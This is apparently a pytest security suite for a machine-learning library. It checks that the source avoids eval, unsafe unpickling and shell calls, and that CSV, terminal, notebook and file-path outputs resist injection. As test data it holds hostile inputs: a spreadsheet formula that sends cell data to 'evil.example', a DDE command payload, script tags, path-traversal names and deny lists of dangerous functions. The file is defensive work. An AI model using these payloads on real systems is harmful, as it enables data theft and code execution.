"""What fastnet never does with what strangers may have written: run it, leave its folder, fetch it unchecked."""

from __future__ import annotations

import ast
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from studies import make_study

import fastnet
from fastnet.data import image_sets
from fastnet.data.readers.idx import IDX_NAMES
from fastnet.errors import FastnetError, StudyError
from fastnet.sheets import harmless
from fastnet.tuning import Study

ROOT = Path(__file__).resolve().parents[1]
SOURCES = [path for folder in ("fastnet", "cli") for path in sorted((ROOT / folder).rglob("*.py"))]

UNPICKLING = {
    "fastnet/kernels/_store.py": "machine code that this user compiled, from a folder that nobody else can write to",
    "fastnet/tuning/run/wire.py": "what the executor of a search, which pickles itself, brought to its worker",
}
RUNNING = {"eval", "exec", "compile", "__import__", "execfile"}
UNSAFE = {
    *("pickle.load", "pickle.loads", "pickle.Unpickler", "marshal.load", "marshal.loads", "shelve.open", "dill.load"),
    *("joblib.load", "yaml.load", "yaml.unsafe_load", "os.system", "os.popen", "tempfile.mktemp", "cloudpickle.loads"),
    *("tarfile.open", "shutil.unpack_archive", "urllib.request.urlopen", "numpy.fromregex", "torch.load"),
}
LISTENING = {"socket.socket", "socket.create_server", "http.server.HTTPServer", "socketserver.TCPServer"}


def calls(path: Path) -> Iterator[tuple[str, ast.Call]]:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.relative_to(ROOT).as_posix())
def test_no_source_runs_what_it_reads(path: Path) -> None:
    place = path.relative_to(ROOT).as_posix()
    for name, call in calls(path):
        assert name not in RUNNING, f"{place}:{call.lineno} {name}"
        allowed = name.startswith("pickle.") and place in UNPICKLING
        assert name not in UNSAFE or allowed, f"{place}:{call.lineno} {name}"
        named = {word.arg: ast.unparse(word.value) for word in call.keywords}
        if name in ("np.load", "numpy.load"):
            assert named.get("allow_pickle") == "False", f"{place}:{call.lineno}"
        assert named.get("shell", "False") == "False" and named.get("verify", "True") == "True", (
            f"{place}:{call.lineno}"
        )
        assert not name.endswith((".extractall", ".extract")), f"{place}:{call.lineno} {name}"


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.relative_to(ROOT).as_posix())
def test_nothing_but_the_live_page_listens_and_nothing_but_downloads_ask_the_network(path: Path) -> None:
    tree, place = ast.parse(path.read_text(encoding="utf-8")), path.relative_to(ROOT).as_posix()
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    serving = imported & {"socketserver", "http.server", "asyncio", "xmlrpc.server", "wsgiref.simple_server"}
    assert place == "fastnet/report/page/live.py" or not serving - ({"asyncio"} if "/workers/" in place else set())
    assert place == "fastnet/data/download.py" or not imported & {"requests", "urllib.request", "http.client", "ftplib"}
    assert not {name for name, _ in calls(path)} & LISTENING or place == "fastnet/report/page/live.py"


def test_the_places_that_unpickle_still_do() -> None:
    assert all(any(name == "pickle.loads" for name, _ in calls(ROOT / place)) for place in UNPICKLING)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
NAMES = (EVIL, "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\tx", "\rx", "</script><script>alert(1)</script>")


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Train on a table whose columns, classes and identifiers are called as an attacker would call them."""
    folder = tmp_path_factory.mktemp("evil")
    table = {f"{EVIL} id": [f"@{k}=1" for k in range(30)], "+a": [k / 3 for k in range(30)]}
    table |= {"@kind": ["=evil()", "-evil()"] * 15}
    lines = [",".join(_quoted(name) for name in table)]
    lines += [",".join(_quoted(str(cell)) for cell in row) for row in zip(*table.values(), strict=True)]
    data, path = folder / "=evil.csv", folder / "model.safetensors"
    data.write_text("\n".join(lines) + "\n")
    given = fastnet.load(data, target="@kind", test="none")
    fastnet.train(given, fastnet.TrainConfig(hidden=(2,), epochs=1)).model.save(path)
    return data, path


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def cells_of(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_predictions_as_csv_have_no_formulas(model: tuple[Path, Path]) -> None:
    from click.testing import CliRunner
    from fastnet_cli.main import cli

    arguments = ["predict", str(model[1]), "--data", str(model[0]), "--probabilities"]
    cells = cells_of(CliRunner().invoke(cli, arguments).stdout)
    assert cells == [harmless(cell) for cell in cells]
    assert "'=evil()" in cells and "'@0=1" in cells and f"'{EVIL} id" in cells and "p(=evil())" in cells


def test_the_exported_program_prints_no_formulas(model: tuple[Path, Path], tmp_path: Path) -> None:
    import subprocess
    import sys

    from fastnet.export.export import export_model
    from fastnet.model.ensemble import load_model

    export_model(load_model(model[1]), tmp_path / "program")
    command = [sys.executable, str(tmp_path / "program" / "predict.py"), str(model[0])]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    cells = cells_of(done.stdout)
    assert cells == [harmless(cell) for cell in cells] and "'=evil()" in cells and f"'{EVIL} id" in cells


def test_trials_as_csv_have_no_formulas(tmp_path: Path) -> None:
    import io

    from fastnet_cli.results import as_csv

    from fastnet.tuning.store import export

    for name in NAMES[:-1]:
        cell = "'" + name.replace("\r", "\n")
        assert cells_of(as_csv([{name: name, "b": -1.5}]) + "\n") == [cell, "b", cell, "-1.5"]
        stream = io.BytesIO()
        export._write_csv(iter([[name, -0.5]]), {name: "text", "value": "real"}, stream)
        assert cells_of(stream.getvalue().decode()) == [cell, "value", cell, "-0.5"]


def test_an_error_shows_the_name_of_a_column_without_what_a_terminal_would_carry_out() -> None:
    with pytest.raises(FastnetError) as caught:
        fastnet.load({"a\x1b]0;owned\x07\n": [1.0, 2.0], "b": [1, 2]}, target="c\x1b[2J\r\n")
    text = str(caught.value)
    assert text.isprintable() and "\\x1b" in text and len(text.splitlines()) == 1


def test_notebooks_show_names_as_text(model: tuple[Path, Path]) -> None:
    table = {name: [f"{name}{k % 2}" for k in range(12)] for name in NAMES} | {"y": ["a<img src=x>", "b"] * 6}
    data = fastnet.load(table, target="y", test="none")
    result = fastnet.train(data, fastnet.TrainConfig(hidden=(), epochs=1))
    for shown in (data._repr_html_(), result._repr_html_(), result.model._repr_html_()):
        assert "<script" not in shown and "<img" not in shown


@pytest.mark.skipif(os.name == "nt", reason="links are a POSIX thing")
@pytest.mark.parametrize("name", ["study.sqlite", "study.lock", "study.sqlite-wal", "study.sqlite-journal"])
def test_a_folder_of_a_stranger_cannot_have_other_files_written(tmp_path: Path, name: str) -> None:
    from fastnet.tuning.store.folder import LOCK_FILE

    (tmp_path / "s").mkdir()
    outside, precious = tmp_path / "made", tmp_path / "precious"
    precious.write_text("precious")
    for target in (outside, precious):
        place = tmp_path / "s" / (LOCK_FILE if name == "study.lock" else name)
        place.symlink_to(target)
        try:
            Study.open(tmp_path / "s", {"seed": 0}).close()
        except StudyError as error:
            assert len(str(error).splitlines()) == 1
        assert not outside.exists() and precious.read_text() == "precious"
        place.unlink(missing_ok=True)


@pytest.mark.skipif(os.name == "nt", reason="links are a POSIX thing")
def test_results_replace_a_link_and_not_what_it_points_to(tmp_path: Path) -> None:
    from fastnet.report.page import write_report

    folder, precious = make_study(tmp_path / "s", 3), tmp_path / "precious"
    precious.write_text("precious")
    (folder / "report.html").symlink_to(precious)
    write_report(folder)
    assert precious.read_text() == "precious" and not (folder / "report.html").is_symlink()


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "a/b", "..\\x", "C:x", "", ".", ".."])
def test_a_study_names_files_of_its_own_folder_only(name: str) -> None:
    from fastnet.tuning.store.shapes import is_file_name

    assert not is_file_name(name) and is_file_name("model.safetensors")


@pytest.mark.parametrize("name", ["../../x", "/etc/cron.d/x", "..", "a/../../b", "C:\\x", "~/x", "x\0y"])
def test_the_name_of_data_is_no_path(tmp_path: Path, name: str) -> None:
    from fastnet_cli.outputs import claim_file

    made = claim_file(tmp_path / "models", name, ".safetensors")
    assert made.parent == tmp_path / "models" and made.resolve().parent == (tmp_path / "models").resolve()


def test_every_file_that_is_downloaded_has_a_checksum_and_a_plain_name() -> None:
    for images in image_sets.IMAGE_SETS.values():
        assert len(images.sha256) == len(IDX_NAMES) and all(len(bytes.fromhex(one)) == 32 for one in images.sha256)
        assert all(Path(name).name == name for name in IDX_NAMES)


def test_the_report_may_load_nothing_and_send_nothing(tmp_path: Path) -> None:
    import re

    from fastnet.report.page import write_report

    page = write_report(make_study(tmp_path / "s", 3)).read_text(encoding="utf-8")
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'" and not {"connect-src", "font-src", "frame-src", "media-src"} & rules.keys()
    assert rules["img-src"] == "data: blob:" and "http" not in policy and rules["form-action"] == "'none'"
    assert rules["base-uri"] == "'none'"
